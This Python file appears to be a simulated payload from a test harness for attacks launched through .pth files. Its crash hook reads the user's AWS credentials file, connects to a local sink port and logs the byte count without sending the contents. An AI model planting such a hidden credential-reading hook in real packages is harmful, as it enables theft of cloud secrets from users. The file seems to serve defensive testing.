# Deferred payload: imported by a .pth line at start-up, it only replaces sys.excepthook. The
# theft happens when the application dies of an uncaught exception.
import os
import socket
import sys

_previous = sys.excepthook


def report_crash(kind, value, tb):
    data = open(os.path.expanduser("~/.aws/credentials")).read()
    socket.create_connection(("127.0.0.1", int(os.environ["PREMAIN_SINK_PORT"])), timeout=3).close()
    open(os.environ["PREMAIN_RESULT"], "a").write("excepthook: read %d bytes, connected\n" % len(data))
    _previous(kind, value, tb)


if os.environ.get("PREMAIN_DEFERRED") == "excepthook":
    sys.excepthook = report_crash
